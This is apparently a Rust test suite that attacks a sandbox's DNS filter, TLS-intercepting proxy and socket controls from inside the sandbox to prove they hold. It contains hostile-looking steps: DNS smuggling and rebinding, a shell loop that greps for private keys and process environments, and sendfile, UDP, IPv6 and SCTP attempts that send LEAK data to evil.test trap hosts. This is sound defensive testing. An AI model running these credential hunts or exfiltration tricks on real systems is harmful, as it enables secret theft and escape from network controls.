//! DNS answers as a channel and as a source of the proxy's learning (served by a DNS
//! server of this file's own, upstream of the filter: records of other names once
//! reached the job and made the proxy dial a trap), the job CA and upstream verification
//! of terminated TLS, and socket leftovers (io_uring, sendfile/splice, re-connected UDP,
//! IPv6 link-local and multicast, SCTP), from inside real sandboxes as root, through the
//! product's contracts only.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::process::Output;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use hickory_proto::op::{Message, ResponseCode};
use hickory_proto::rr::{rdata, Name, RData, Record, RecordType};
use runner_agent_tests::agent::{describe, python_step, World, HOST_SIDE};
use runner_agent_tests::netbed::{
    allowed_test_config, dns_response_to, serve_dns_over_tcp, settle, NetBed, HOST_INET_IP,
    TRAP_IPS, WEB_IP,
};
use runner_agent_tests::require_privilege;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PRELUDE: &str = r#"
def L(name):
    return [p.encode() for p in name.split(".")]
def rdname(msg, off):
    labels = []
    end = None
    hops = 0
    while True:
        l = msg[off]
        if l == 0:
            off += 1
            break
        if l & 0xc0 == 0xc0:
            if end is None:
                end = off + 2
            off = ((l & 0x3f) << 8) | msg[off + 1]
            hops += 1
            if hops > 50:
                break
            continue
        labels.append(msg[off + 1:off + 1 + l].decode("latin1"))
        off += 1 + l
    return ".".join(labels), (end if end is not None else off)
def parse(msg):
    qd, an = struct.unpack("!HH", msg[4:8])
    off = 12
    for _ in range(qd):
        _, off = rdname(msg, off)
        off += 4
    out = []
    for _ in range(an):
        name, off = rdname(msg, off)
        t, c, ttl, rl = struct.unpack("!HHIH", msg[off:off + 10])
        off += 10
        rd = msg[off:off + rl]
        if t == 1:
            v = socket.inet_ntoa(rd)
        elif t == 5:
            v = rdname(msg, off)[0]
        else:
            v = rd.hex()
        off += rl
        out.append((name, t, v))
    return msg[3] & 15, (msg[2] >> 1) & 1, out
def ask(label, name, qtype=1, tcp=False, server=("198.51.100.53", 53)):
    m = q(L(name), qtype=qtype)
    try:
        if tcp:
            s = socket.create_connection(server, timeout=4)
            s.sendall(u16(len(m)) + m)
            ln = b""
            while len(ln) < 2:
                ln += s.recv(2 - len(ln))
            n = struct.unpack("!H", ln)[0]
            r = b""
            while len(r) < n:
                b = s.recv(n - len(r))
                if not b:
                    break
                r += b
            s.close()
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(4)
            s.sendto(m, server)
            r = s.recv(65535)
            s.close()
        rc, tc, rrs = parse(r)
        print("DNS", label, "rcode", rc, "tc", tc, "n", len(rrs), flush=True)
        for (o, t, v) in rrs:
            print("RR", label, o, t, v, flush=True)
        return rrs
    except Exception as e:
        print("DNS", label, "error", e, flush=True)
        return []
def tcp(label, addr, data, wait=1.5, pause=0.05):
    out = raw(addr, data, wait=wait, pause=pause)
    print("ATTEMPT", label, "->", repr(out[:160]), flush=True)
    return out
"#;

fn py_step(name: &str, script: &str, args: &str) -> String {
    python_step(name, PRELUDE, script, args)
}

fn run_job(world: &World, name: &str, steps: &str) -> (Output, Vec<serde_json::Value>) {
    let job = world.job(
        &format!("{name}.yaml"),
        &format!("name: {name}\nsteps:\n{steps}"),
    );
    let (output, events) = world.run_audited(&job);
    settle();
    println!("{}", describe(&output));
    for e in &events {
        println!("EVENT {e}");
    }
    world.assert_job_left_nothing(&output);
    (output, events)
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

// ------------------------------------------------------- an upstream of our own

/// Address of this file's own DNS server, in the bed's internet namespace.
const OWN_DNS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 54);

#[derive(Default)]
struct OwnDns {
    seen: Mutex<Vec<String>>,
    rebind: AtomicUsize,
}

fn name(s: &str) -> Name {
    Name::from_ascii(s).expect("name")
}

fn a(owner: Name, ip: Ipv4Addr, ttl: u32) -> Record {
    Record::from_rdata(owner, ttl, RData::A(rdata::A(ip)))
}

fn cname(owner: Name, target: Name) -> Record {
    Record::from_rdata(owner, 60, RData::CNAME(rdata::CNAME(target)))
}

fn own_answer(state: &OwnDns, wire: &[u8]) -> Option<Vec<u8>> {
    let query = Message::from_vec(wire).ok()?;
    let question = query.queries().first()?.clone();
    let mut reply = dns_response_to(&query);
    reply.add_query(question.clone());
    let qname = question.name().clone();
    let lname = qname.to_ascii().trim_end_matches('.').to_ascii_lowercase();
    state
        .seen
        .lock()
        .unwrap_or_else(|e| e.into_inner())
        .push(format!("{lname} {}", question.query_type()));
    if question.query_type() != RecordType::A {
        return reply.to_vec().ok();
    }
    let mut answers = Vec::new();
    match lname.as_str() {
        // A chain whose target name carries data.
        "cn.allowed.test" => {
            let target = name("payload-cnamechain-rt8.smuggle.test.");
            answers.push(cname(qname, target.clone()));
            answers.push(a(target, WEB_IP, 60));
        }
        // The name's own A, then CNAMEs that lead nowhere, an A record of another
        // (denied) name pointing at a trap, and a TXT.
        "tx.allowed.test" => {
            answers.push(a(qname.clone(), WEB_IP, 60));
            for i in 0..6 {
                answers.push(cname(
                    name(&format!("o{i}-ownerdata-rt8.smuggle.test.")),
                    name(&format!("chunk{i}-stray-cname-rt8.smuggle.test.")),
                ));
            }
            answers.push(a(name("straya-rt8.evil.test."), TRAP_IPS[0], 60));
            answers.push(Record::from_rdata(
                qname,
                60,
                RData::TXT(rdata::TXT::new(vec!["txt-rt8-payload".to_owned()])),
            ));
        }
        // A CNAME and nothing it leads to.
        "dangle.allowed.test" => {
            answers.push(cname(qname, name("dangling-rt8.smuggle.test.")));
        }
        // A chain of 40 CNAMEs.
        "long.allowed.test" => {
            let mut owner = qname;
            for i in 0..40 {
                let next = name(&format!("c{i}-rt8long.allowed.test."));
                answers.push(cname(owner, next.clone()));
                owner = next;
            }
            answers.push(a(owner, WEB_IP, 60));
        }
        // Rebinding, TTL 0: the first two answers are the web server, the rest the
        // host's own address on the internet side.
        "rb.allowed.test" => {
            let k = state.rebind.fetch_add(1, Ordering::SeqCst);
            let ip = if k < 2 { WEB_IP } else { HOST_INET_IP };
            answers.push(a(qname, ip, 0));
        }
        // Only an A record for another name, a trap's address.
        "only-other.allowed.test" => {
            answers.push(a(name("evil.test."), TRAP_IPS[0], 60));
        }
        _ => {
            reply.set_response_code(ResponseCode::NXDomain);
        }
    }
    for r in answers {
        reply.add_answer(r);
    }
    reply.to_vec().ok()
}

fn start_own_dns(bed: &NetBed) -> Arc<OwnDns> {
    runner_agent_tests::netbed::ip(&[
        "-n",
        bed.internet_ns(),
        "addr",
        "add",
        &format!("{OWN_DNS}/24"),
        "dev",
        "host0",
    ])
    .expect("add address");
    let state = Arc::new(OwnDns::default());
    let (udp_state, tcp_state) = (Arc::clone(&state), Arc::clone(&state));
    let (udp, tcp) = bed.internet().run(async move {
        let addr = SocketAddr::new(IpAddr::V4(OWN_DNS), 53);
        let udp = tokio::net::UdpSocket::bind(addr).await.expect("udp bind");
        let tcp = tokio::net::TcpListener::bind(addr).await.expect("tcp bind");
        (udp, tcp)
    });
    bed.internet().spawn(async move {
        let mut buf = vec![0u8; 4096];
        while let Ok((n, peer)) = udp.recv_from(&mut buf).await {
            if let Some(reply) = own_answer(&udp_state, &buf[..n]) {
                let reply = if reply.len() > 512 {
                    // As a server without EDNS would: truncated, TC set.
                    let mut m = Message::from_vec(&reply).expect("own reply");
                    m.take_answers();
                    m.set_truncated(true);
                    m.to_vec().expect("encode")
                } else {
                    reply
                };
                let _ = udp.send_to(&reply, peer).await;
            }
        }
    });
    bed.internet().spawn(serve_dns_over_tcp(tcp, move |wire| {
        own_answer(&tcp_state, wire)
    }));
    state
}

const DNS_CHANNEL: &str = r#"
TRAP = sys.argv[1]
WEB = sys.argv[2]
setcomm("rt8dns")
ask("cn", "cn.allowed.test")
ask("tx", "tx.allowed.test")
ask("dangle", "dangle.allowed.test")
ask("long-udp", "long.allowed.test")
ask("long-tcp", "long.allowed.test", tcp=True)
ask("only-other", "only-other.allowed.test")
# what the proxy learnt from those answers: the trap's address for tx.allowed.test
tcp("tx-transparent-trap", (TRAP, 443), client_hello([b"tx.allowed.test"]))
tcp("tx-http-trap", (TRAP, 80), b"GET /leak-rt8-tx HTTP/1.1\r\nHost: tx.allowed.test\r\nConnection: close\r\n\r\n")
tcp("oo-transparent-trap", (TRAP, 443), client_hello([b"only-other.allowed.test"]))
tcp("oo-explicit", E, b"GET http://only-other.allowed.test/leak-rt8-oo HTTP/1.1\r\nHost: only-other.allowed.test\r\nConnection: close\r\n\r\n")
tcp("dangle-explicit", E, b"GET http://dangle.allowed.test/rt8-dangle HTTP/1.1\r\nHost: dangle.allowed.test\r\nConnection: close\r\n\r\n")
tcp("long-explicit", E, b"GET http://long.allowed.test/rt8-long HTTP/1.1\r\nHost: long.allowed.test\r\nConnection: close\r\n\r\n")
# rebinding: answer 1 (the job's) and 2 (the proxy's first) are the web server, the
# rest the host's own address; TTL 0
ask("rb1", "rb.allowed.test")
tcp("rb-explicit-1", E, b"GET http://rb.allowed.test/rt8-rb1 HTTP/1.1\r\nHost: rb.allowed.test\r\nConnection: close\r\n\r\n")
time.sleep(1.6)
tcp("rb-explicit-2", E, b"GET http://rb.allowed.test/rt8-rb2 HTTP/1.1\r\nHost: rb.allowed.test\r\nConnection: close\r\n\r\n")
tcp("rb-connect-3", E, b"CONNECT rb.allowed.test:443 HTTP/1.1\r\nHost: rb.allowed.test:443\r\n\r\n" + client_hello([b"rb.allowed.test"]))
tcp("rb-transparent-4", (WEB, 443), client_hello([b"rb.allowed.test"]))
# names differing by case and trailing dot between the question and the CONNECT/SNI
tcp("case-connect", E, b"CONNECT CN.Allowed.TEST.:443 HTTP/1.1\r\nHost: cn.allowed.test\r\n\r\n" + client_hello([b"cn.allowed.test"]))
tcp("case-sni", E, b"CONNECT cn.allowed.test:443 HTTP/1.1\r\nHost: cn.allowed.test\r\n\r\n" + client_hello([b"CN.ALLOWED.TEST."]))
print("RT8-DNS-DONE", flush=True)
"#;

/// DNS answers of an allowed zone: what of them the filter serves the job, and what the
/// proxy learns from them (rebinding, records of other names).
#[test]
fn answers_of_an_allowed_zone_as_a_channel_and_as_learning() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let own = start_own_dns(&bed);
    let config = allowed_test_config("", "").replace(
        &format!("upstream_dns: [{}]", runner_agent_tests::netbed::DNS_IP),
        &format!("upstream_dns: [{OWN_DNS}]"),
    );
    assert!(config.contains(&OWN_DNS.to_string()), "{config}");
    let world = World::in_netns(bed.host_ns(), "", &config);
    let (output, events) = run_job(
        &world,
        "rt8dns",
        &py_step(
            "dns channel",
            DNS_CHANNEL,
            &format!("{} {}", TRAP_IPS[0], WEB_IP),
        ),
    );
    let out = stdout(&output);
    assert!(out.contains("RT8-DNS-DONE"), "{}", describe(&output));
    let seen = own.seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
    println!("OWN DNS saw: {seen:?}");
    for h in bed.web_hits() {
        println!(
            "HIT {} {} host={:?} sni={:?} at {}",
            h.method, h.path, h.host, h.sni, h.local
        );
    }
    println!("TRAPS {:?}", bed.trap_hits());
    let mut problems = Vec::new();
    if !bed.trap_hits().is_empty() {
        problems.push(format!("trap hits: {:?}", bed.trap_hits()));
    }
    for marker in [
        "ownerdata",
        "stray-cname",
        "dangling-rt8",
        "straya-rt8",
        "txt-rt8",
    ] {
        if out
            .lines()
            .any(|l| l.starts_with("RR ") && l.contains(marker))
        {
            problems.push(format!(
                "the filter served a record that leads to no address of the question: {marker}"
            ));
        }
    }
    for line in out.lines().filter(|l| l.starts_with("RR only-other")) {
        problems.push(format!("record of another name served: {line}"));
    }
    let host_ip = HOST_INET_IP.to_string();
    for e in &events {
        if e["verdict"] == "allow" && e["ip"] == host_ip.as_str() && e["source"] == "proxy" {
            problems.push(format!(
                "proxy allowed a dial of the host's own address: {e}"
            ));
        }
        if e["verdict"] == "allow"
            && e["source"] == "proxy"
            && e["ip"] == TRAP_IPS[0].to_string().as_str()
        {
            problems.push(format!("proxy allowed a dial of a trap: {e}"));
        }
    }
    // What the filter dropped is recorded.
    if !events.iter().any(|e| {
        e["source"] == "dns"
            && e["verdict"] == "deny"
            && e["reason"]
                .as_str()
                .is_some_and(|r| r.contains("off the question's chain dropped"))
    }) {
        problems.push("no event records the dropped records".to_owned());
    }
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

// ------------------------------------------------- the job CA, upstream verification

/// Upstream servers with certificates of a CA of this file's own (the agent's roots).
struct Upstreams {
    ca_pem: String,
    /// (address, requests seen after a handshake)
    seen: Arc<Mutex<Vec<(Ipv4Addr, usize)>>>,
}

fn upstream_ip(last: u8) -> Ipv4Addr {
    Ipv4Addr::new(198, 51, 100, last)
}

fn start_upstreams(bed: &NetBed) -> Upstreams {
    use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair};
    let ca_key = KeyPair::generate().expect("key");
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).expect("params");
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(DnType::CommonName, "test upstream ca");
    let ca = ca_params.self_signed(&ca_key).expect("ca");
    let seen = Arc::new(Mutex::new(Vec::new()));
    // (last octet, names in the certificate, expired)
    let servers: [(u8, Vec<String>, bool); 4] = [
        (20, vec!["exp.up.test".into()], true),
        (21, vec!["other.test".into()], false),
        (22, vec!["198.51.100.22".into()], false),
        (23, vec!["good.up.test".into()], false),
    ];
    for (last, names, expired) in servers {
        let ip = upstream_ip(last);
        runner_agent_tests::netbed::ip(&[
            "-n",
            bed.internet_ns(),
            "addr",
            "add",
            &format!("{ip}/24"),
            "dev",
            "host0",
        ])
        .expect("add address");
        let key = KeyPair::generate().expect("key");
        let mut params = CertificateParams::new(names).expect("params");
        if expired {
            params.not_before = rcgen::date_time_ymd(2020, 1, 1);
            params.not_after = rcgen::date_time_ymd(2021, 1, 1);
        }
        let cert = params.signed_by(&key, &ca, &ca_key).expect("leaf");
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let config = rustls::ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .expect("versions")
            .with_no_client_auth()
            .with_single_cert(
                vec![cert.der().clone()],
                rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
            )
            .expect("server config");
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
        let listener = bed.internet().run(async move {
            tokio::net::TcpListener::bind((ip, 443))
                .await
                .expect("bind 443")
        });
        let seen = Arc::clone(&seen);
        bed.internet().spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let acceptor = acceptor.clone();
                let seen = Arc::clone(&seen);
                tokio::spawn(async move {
                    let Ok(mut tls) = acceptor.accept(stream).await else {
                        return;
                    };
                    let mut buf = [0u8; 4096];
                    if let Ok(n) = tls.read(&mut buf).await {
                        if n > 0 {
                            seen.lock().unwrap_or_else(|e| e.into_inner()).push((ip, n));
                            let _ = tls
                                .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 8\r\nconnection: close\r\n\r\nupstream")
                                .await;
                            let _ = tls.shutdown().await;
                        }
                    }
                });
            }
        });
    }
    bed.set_name("exp.up.test", vec![IpAddr::V4(upstream_ip(20))]);
    bed.set_name("wrong.up.test", vec![IpAddr::V4(upstream_ip(21))]);
    bed.set_name("ipsan.up.test", vec![IpAddr::V4(upstream_ip(22))]);
    bed.set_name("good.up.test", vec![IpAddr::V4(upstream_ip(23))]);
    Upstreams {
        ca_pem: ca.pem(),
        seen,
    }
}

const JOB_CA: &str = r#"
setcomm("rt8ca")
def tls_get(label, name, sni=None, alpn=None, verify=True, path="/rt8-get"):
    try:
        s, head = connect_tunnel("%s:443" % name)
        if b" 200" not in head.split(b"\r\n")[0]:
            print("ATTEMPT", label, "-> connect", head.split(b"\r\n")[0], flush=True)
            return
        ctx = ssl.create_default_context()
        if not verify:
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
        if alpn:
            ctx.set_alpn_protocols(alpn)
        t = ctx.wrap_socket(s, server_hostname=sni or name)
        cert = t.getpeercert()
        sans = cert.get("subjectAltName") if cert else None
        issuer = cert.get("issuer") if cert else None
        t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, name)).encode())
        out = read_all(t, 5)
        print("ATTEMPT", label, "-> verified", verify, "sans", sans, "issuer", issuer, "status", statuses(out), repr(out[:120]), flush=True)
    except Exception as e:
        print("ATTEMPT", label, "-> error", type(e).__name__, e, flush=True)
tls_get("good", "good.up.test")
tls_get("expired", "exp.up.test")
tls_get("wrongname", "wrong.up.test")
tls_get("ipsan", "ipsan.up.test")
tls_get("h2-only", "good.up.test", alpn=["h2"])
# a name that is allowed but not intercepted must never come with a job-CA leaf
tls_get("spliced-allowed", "allowed.test")
tls_get("spliced-allowed-noverify", "allowed.test", verify=False)
# session resumption across names: resume a good.up.test session with SNI allowed.test
try:
    ctx = ssl.create_default_context()
    s, head = connect_tunnel("good.up.test:443")
    t = ctx.wrap_socket(s, server_hostname="good.up.test")
    t.sendall(b"GET /rt8-sess HTTP/1.1\r\nHost: good.up.test\r\n\r\n")
    read_all(t, 2)
    sess = t.session
    t.close()
    s, head = connect_tunnel("good.up.test:443")
    t = ctx.wrap_socket(s, server_hostname="good.up.test", session=sess)
    print("ATTEMPT resume-same -> reused", t.session_reused, flush=True)
    t.close()
    s, head = connect_tunnel("allowed.test:443")
    try:
        t = ctx.wrap_socket(s, server_hostname="allowed.test", session=sess)
        print("ATTEMPT resume-other -> reused", t.session_reused, t.getpeercert().get("subjectAltName"), flush=True)
    except Exception as e:
        print("ATTEMPT resume-other -> error", type(e).__name__, e, flush=True)
except Exception as e:
    print("ATTEMPT resume -> error", type(e).__name__, e, flush=True)
print("RT8-CA-DONE", flush=True)
"#;

const KEY_HUNT: &str = r#"  - name: look for the CA key and the upstream roots
    run: |
      for d in /etc/ssl /usr/local/share/ca-certificates /workspace /run /tmp /var/tmp /dev/shm; do
        grep -rls "PRIVATE KEY" "$d" 2>/dev/null | sed 's/^/KEYFILE /'
      done
      env | grep -i -E "key|ca_|cert|ssl" | sed 's/^/ENV /'
      for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ 2>/dev/null | grep -i "PRIVATE" | sed "s|^|PROCENV $p |"; done
      grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt | sed 's/^/CERTS /'
      grep -l -F "UPSTREAM_CA_LINE" /etc/ssl/certs/ca-certificates.crt 2>/dev/null | sed 's/^/UPSTREAMCA /'
"#;

/// Terminated TLS: the upstream must verify (expired, other name, IP SAN only), each
/// failure a deny event and no request upstream; the job CA signs only what is
/// intercepted; resumption does not carry one name's session to another.
#[test]
fn upstream_verification_and_the_job_ca() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let up = start_upstreams(&bed);
    let world = World::in_netns(
        bed.host_ns(),
        "",
        &allowed_test_config(
            "        - host: \"*.up.test\"\n          methods: [GET]\n",
            "",
        ),
    );
    let ca_path = world.dir.path().join("upstream-ca.pem");
    std::fs::write(&ca_path, &up.ca_pem).expect("write ca");
    let world = world.with_agent_env("SSL_CERT_FILE", &ca_path.to_string_lossy());
    // The upstream CA is in the bundle only if one of its base64 lines is: its name is
    // encoded inside the PEM, so a search for the name could never find it.
    let ca_line = up
        .ca_pem
        .lines()
        .nth(2)
        .expect("a line of the CA's body")
        .to_owned();
    let steps = format!(
        "{}{}",
        py_step("job ca", JOB_CA, ""),
        KEY_HUNT.replace("UPSTREAM_CA_LINE", &ca_line)
    );
    let (output, events) = run_job(&world, "rt8ca", &steps);
    let out = stdout(&output);
    assert!(out.contains("RT8-CA-DONE"), "{}", describe(&output));
    let seen = up.seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
    println!("UPSTREAM REQUESTS {seen:?}");
    let mut problems = Vec::new();
    for (ip, _) in &seen {
        if *ip != upstream_ip(23) {
            problems.push(format!("a request reached the unverifiable upstream {ip}"));
        }
    }
    if !seen.iter().any(|(ip, _)| *ip == upstream_ip(23)) {
        problems.push("control: nothing reached good.up.test".to_owned());
    }
    for name in ["exp.up.test", "wrong.up.test", "ipsan.up.test"] {
        let denied = events
            .iter()
            .any(|e| e["verdict"] == "deny" && e["host"] == name);
        if !denied {
            problems.push(format!("no deny event for {name}"));
        }
    }
    for line in out.lines() {
        if line.starts_with("KEYFILE ")
            || line.starts_with("PROCENV ")
            || line.starts_with("UPSTREAMCA ")
        {
            problems.push(format!("found in the sandbox: {line}"));
        }
        if line.starts_with("ATTEMPT spliced-allowed ->") && line.contains("status 200") {
            problems.push(format!("a verified certificate for a spliced name: {line}"));
        }
        if line.starts_with("ATTEMPT resume-other") && line.contains("reused True") {
            problems.push(format!("session resumed across names: {line}"));
        }
    }
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

// ----------------------------------------------------------- socket leftovers

const SOCKETS: &str = r#"
TRAP = sys.argv[1]
HS = sys.argv[2]
setcomm("rt8sock")
import errno, select
# 1. io_uring_setup (x86_64: 425), io_uring_enter (426), io_uring_register (427)
params = ctypes.create_string_buffer(120)
for nr, nm in ((425, "setup"), (426, "enter"), (427, "register")):
    r = libc.syscall(nr, 4, params, 0, 0, 0, 0)
    print("ATTEMPT io_uring_%s -> %d errno %s" % (nm, r, errno.errorcode.get(ctypes.get_errno())), flush=True)
# 2. sendfile and splice into a socket redirected to the transparent HTTP listener
with open("/workspace/rt8body", "wb") as f:
    f.write(b"GET /leak-rt8-sendfile HTTP/1.1\r\nHost: sf.evil.test\r\nConnection: close\r\n\r\n")
try:
    s = socket.create_connection((TRAP, 8080), timeout=4)
    fd = os.open("/workspace/rt8body", os.O_RDONLY)
    n = os.sendfile(s.fileno(), fd, 0, 200)
    print("ATTEMPT sendfile -> sent", n, repr(read_all(s, 2)[:80]), flush=True)
    s.close()
except OSError as e:
    print("ATTEMPT sendfile -> refused", e, flush=True)
try:
    s = socket.create_connection((TRAP, 80), timeout=4)
    r, w = os.pipe()
    os.write(w, b"GET /leak-rt8-splice HTTP/1.1\r\nHost: sp.evil.test\r\nConnection: close\r\n\r\n")
    n = os.splice(r, s.fileno(), 200)
    print("ATTEMPT splice -> sent", n, repr(read_all(s, 2)[:80]), flush=True)
    s.close()
except (OSError, AttributeError) as e:
    print("ATTEMPT splice -> refused", e, flush=True)
# 3. UDP: connected to DNS, then re-connected elsewhere, then disconnected (AF_UNSPEC)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
u.connect((TRAP, 53))
u.send(q(L("reconn1.exfil.evil.test")))
try:
    u.recv(512)
except OSError:
    pass
for label, dst in (("reconnect-9999", (TRAP, 9999)), ("reconnect-443", (TRAP, 443)), ("reconnect-hs-3128", (HS, 3128))):
    try:
        u.connect(dst)
        print("ATTEMPT", label, "-> connect ok", u.getpeername(), flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> connect refused", e, flush=True)
    try:
        u.send(b"LEAK-RT8-" + label.encode())
        print("ATTEMPT", label, "-> send ok (peer now", u.getpeername(), ")", flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> send refused", e, flush=True)
libc.connect.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
unspec = struct.pack("=H14x", 0)
r = libc.connect(u.fileno(), unspec, 16)
print("ATTEMPT unspec-disconnect -> %d" % r, flush=True)
try:
    u.sendto(b"LEAK-RT8-after-unspec", (TRAP, 9999))
    print("ATTEMPT after-unspec -> sent", flush=True)
except OSError as e:
    print("ATTEMPT after-unspec -> refused", e, flush=True)
try:
    u.send(b"LEAK-RT8-after-unspec-send")
    print("ATTEMPT after-unspec-send -> sent", flush=True)
except OSError as e:
    print("ATTEMPT after-unspec-send -> refused", e, flush=True)
u.close()
# 4. IPv6 link-local and multicast toward the host side
for label, dst in (("v6-allnodes-53", ("ff02::1", 53, 0, 2)), ("v6-allnodes-9999", ("ff02::1", 9999, 0, 2)),
                   ("v6-ll-53", ("fe80::1", 53, 0, 2)), ("v6-mdns", ("ff02::fb", 5353, 0, 2))):
    try:
        v = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        v.sendto(q(L(label + ".exfil.evil.test")), dst)
        print("ATTEMPT", label, "-> sent", flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> refused", e, flush=True)
for label, dst in (("v6-ll-tcp-3128", ("fe80::1", 3128, 0, 2)),):
    try:
        v = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        v.settimeout(2)
        v.connect(dst)
        print("ATTEMPT", label, "-> connected", flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> refused", e, flush=True)
# 5. SCTP one-to-one and one-to-many, ICMPv6 ping socket
for label, fam, typ, proto in (("sctp-stream", socket.AF_INET, socket.SOCK_STREAM, 132),
                               ("sctp-seqpacket", socket.AF_INET, socket.SOCK_SEQPACKET, 132),
                               ("udplite", socket.AF_INET, socket.SOCK_DGRAM, 136),
                               ("icmp6-ping", socket.AF_INET6, socket.SOCK_DGRAM, 58)):
    try:
        x = socket.socket(fam, typ, proto)
        print("ATTEMPT", label, "-> created", flush=True)
        try:
            x.settimeout(2)
            if fam == socket.AF_INET:
                x.connect((TRAP, 443))
            else:
                x.sendto(b"\x80\x00\x00\x00\x00\x01\x00\x01LEAK", ("2001:db8:113::10", 0))
            print("ATTEMPT", label, "-> connected/sent", flush=True)
        except OSError as e:
            print("ATTEMPT", label, "-> connect refused", e, flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> refused", e, flush=True)
print("RT8-SOCK-DONE", flush=True)
"#;

/// io_uring, sendfile and splice, re-connected and disconnected UDP, IPv6 link-local
/// and multicast, SCTP and UDP-Lite: nothing reaches a trap and each attempt is recorded.
#[test]
fn socket_leftovers_get_nowhere_and_are_recorded() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
    let step = py_step("sockets", SOCKETS, &format!("{} $host_side", TRAP_IPS[0]))
        .replace("    run: |\n", &format!("    run: |\n      {HOST_SIDE}\n"));
    let (output, events) = run_job(&world, "rt8sock", &step);
    let out = stdout(&output);
    assert!(out.contains("RT8-SOCK-DONE"), "{}", describe(&output));
    println!("TRAPS {:?}", bed.trap_hits());
    let mut problems = Vec::new();
    if !bed.trap_hits().is_empty() {
        problems.push(format!("trap hits: {:?}", bed.trap_hits()));
    }
    if bed.web_hits().iter().any(|h| h.path.contains("leak")) {
        problems.push(format!("web: {:?}", bed.web_hits()));
    }
    if bed.dns_hits().iter().any(|h| h.name.contains("evil")) {
        problems.push(format!("upstream saw: {:?}", bed.dns_hits()));
    }
    for line in out.lines().filter(|l| l.starts_with("ATTEMPT io_uring")) {
        if !line.contains("EPERM") && !line.contains("ENOSYS") {
            problems.push(format!("io_uring reachable: {line}"));
        }
    }
    if !events.iter().any(|e| {
        e["reason"]
            .as_str()
            .is_some_and(|r| r.starts_with("seccomp: io_uring"))
    }) {
        problems.push("no seccomp event for io_uring".to_owned());
    }
    for host in ["sf.evil.test", "sp.evil.test"] {
        if !events
            .iter()
            .any(|e| e["verdict"] == "deny" && e["host"] == host)
        {
            problems.push(format!("no deny event for {host}"));
        }
    }
    for (label, port) in [("reconnect-9999", 9999), ("after-unspec", 9999)] {
        if out
            .lines()
            .any(|l| l.starts_with(&format!("ATTEMPT {label} ->")) && l.contains("refused"))
            && !events
                .iter()
                .any(|e| e["verdict"] == "deny" && e["port"] == port)
        {
            problems.push(format!("{label}: refused without an event on port {port}"));
        }
    }
    for label in [
        "v6-allnodes-53",
        "v6-allnodes-9999",
        "v6-ll-53",
        "v6-mdns",
        "v6-ll-tcp-3128",
    ] {
        if out.lines().any(|l| {
            l.starts_with(&format!("ATTEMPT {label} -> sent"))
                || l.starts_with(&format!("ATTEMPT {label} -> connected"))
        }) {
            problems.push(format!("{label} went out"));
        }
    }
    for label in ["sctp-stream", "sctp-seqpacket", "udplite", "icmp6-ping"] {
        if out
            .lines()
            .any(|l| l.starts_with(&format!("ATTEMPT {label} -> connected/sent")))
        {
            problems.push(format!("{label} went out"));
        }
    }
    let ebpf: Vec<_> = events.iter().filter(|e| e["source"] == "ebpf").collect();
    println!("ebpf events: {}", ebpf.len());
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}
